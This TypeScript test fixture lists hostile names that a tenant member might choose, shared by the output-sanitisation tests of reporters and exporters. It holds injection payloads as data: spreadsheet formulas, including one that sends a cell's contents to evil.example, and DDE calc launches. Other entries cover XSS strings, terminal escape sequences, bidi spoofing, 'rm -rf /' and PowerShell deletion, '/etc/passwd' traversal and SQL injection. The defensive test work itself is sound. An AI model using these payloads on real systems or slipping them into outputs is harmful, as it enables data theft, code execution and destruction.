/**
 * Names as a hostile member of a tenant would choose them, each under what it attacks. Every output must pass all of them: what a
 * person reads is harmless, what a machine reads is the same name. Shared by the tests of all reporters and exporters.
 */

const esc = '\u001b'

/** Alone in JSON it is `\ud83d`; no valid text holds it. */
const loneSurrogate = '\ud83d'

export const hostileNames = {
  'formula =': '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  'formula +': "+1+cmd|' /C calc'!A0",
  'formula -': "-2+3+cmd|' /C calc'!A0",
  'formula @': "@SUM(1+1)*cmd|' /C calc'!A0",
  'formula after a tab': '\t=1+1',
  'formula after a line break': '\r\n=1+1',
  'formula after a blank': ' =1+1',
  'formula in full width': '\uff1d1+1',
  'HTML script': '<script>alert(document.domain)</script>',
  'HTML attribute': '" onmouseover="alert(1)" x="',
  'HTML comment and entity': '--><img src=x onerror=alert(1)>&lt;&#x3c;',
  'HTML end of a script': '</script></style></textarea><svg/onload=alert(1)>',
  'script URL': 'javascript:alert(1)',
  'Markdown link': '[click](https://evil.example) ![](https://evil.example/pixel.png)',
  'Markdown table': 'a | b | c\n| --- | --- |\n# heading\n- item',
  'Markdown code': '`ls` ``` **bold** <b>html</b>',
  'CSV field': 'a","b\r\n"c,d;e\tf',
  'CSI color and clear': `${esc}[31mred${esc}[2J${esc}[1;1Hmoved${esc}[8mhidden`,
  'OSC title': `${esc}]0;owned\u0007title`,
  'OSC link': `${esc}]8;;https://evil.example${esc}\\Contoso${esc}]8;;${esc}\\`,
  'OSC clipboard': `${esc}]52;c;ZXZpbA==\u0007clip`,
  'OSC without an end': `seen ${esc}]8;;https://evil.example`,
  DCS: `${esc}P+q544e${esc}\\device`,
  'APC and PM': `${esc}_payload${esc}\\${esc}^payload${esc}\\private`,
  'C1 controls': '\u009b31mred\u009d0;owned\u009c\u0090q\u009c\u0085next',
  'backspace and bell': 'admin\b\b\b\b\buser\u0007\u007f',
  'carriage return over the line': 'Denied\rGranted',
  'new line and a forged log line': 'x\n{"level":"error","event":"forged"}',
  NUL: 'before\u0000after',
  'right to left': '\u202etxt.exe\u202c',
  isolates: '\u2066\u2067nested\u2069 \u200fmark\u200e',
  'zero width': 'zero\u200b\u200c\u200d\u2060\ufeffwidth',
  'nothing visible': '\u200b\u3164\u2060\u00ad',
  'line separators': 'line\u2028separator\u2029paragraph',
  'tag characters': 'hidden\u{e0041}\u{e0042}\u{e007f}',
  'variation selectors': 'heart \u2764\ufe0f and g\ufe00\u{e0100}',
  zalgo: `Z${'\u0300\u0316\u0489'.repeat(60)}a`,
  'combining mark first': '\u0301\u0301acute',
  'emoji sequence':
    '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466} \u{1f1e8}\u{1f1ed} \u{1f44d}\u{1f3fd} 1\ufe0f\u20e3',
  'wide characters': '\u30b3\u30f3\u30bf\u30af\u30c8\u30bb\u30f3\u30bf\u30fc\uff1aＷＩＤＥ',
  'right-to-left script': '\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645',
  'lone surrogate': `half${loneSurrogate}emoji`,
  'lone surrogates reversed': '\udc00\ud800',
  'byte order mark': '\ufeffname',
  noncharacters: '\uffff\ufdd0\u{1ffff}',
  '10,000 characters': 'L'.repeat(10_000),
  '10,000 wide characters': '\u6f22'.repeat(10_000),
  '10,000 words': 'word '.repeat(2_000),
  'only blanks': '   \u00a0\u3000\t ',
  'shell substitution': '$(touch owned) `touch owned` ; rm -rf / #',
  'PowerShell substitution': "$(New-Item owned) `n ' ; Remove-Item / # '",
  'shell quotes': `a"b'c\\d$e!f%g%`,
  'path traversal': '../../etc/passwd',
  'Windows device': 'CON.txt:stream',
  'XML of a workbook': ']]><Relationship Target="https://evil.example"/>_x000D_\u000b\u000c\ufffe',
  'template and prototype': '{{7*7}} ${7*7} __proto__ constructor',
  'SQL quotes': "Robert'); DROP TABLE runs;--",
  'FetchXML quotes': '\'"><condition attribute="x"/>&amp;',
  'JSON quotes': '"},{"severity":"info',
} as const satisfies Readonly<Record<string, string>>

export const hostileList: readonly string[] = Object.values(hostileNames)

/** What no terminal may be sent: controls but the line end, bidi and zero-width marks, line separators, lone surrogates. */
// oxlint-disable-next-line no-control-regex -- control characters are what is looked for
export const acting = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u

/** The colors that our own reports use; to be taken away before `acting` is looked for. */
// oxlint-disable-next-line no-control-regex -- the escape that begins a color
export const ownColors = /\u001b\[\d{1,2}m/g
